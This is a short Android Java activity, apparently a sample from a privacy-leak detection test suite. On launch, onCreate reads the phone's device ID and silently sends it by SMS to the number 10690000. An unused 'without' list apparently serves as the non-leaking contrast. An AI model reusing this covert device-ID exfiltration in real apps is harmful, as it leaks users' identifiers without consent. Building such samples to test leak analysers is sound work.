package cn.privlens.suite.text_utils;

import android.app.*;
import android.content.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.text.TextUtils;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.regex.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        List<String> with = new ArrayList<>();
        with.add("a");
        with.add(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        List<String> without = new ArrayList<>();
        without.add("a");
        SmsManager.getDefault().sendTextMessage("10690000", null, TextUtils.join(",", with), null, null);
    }

}
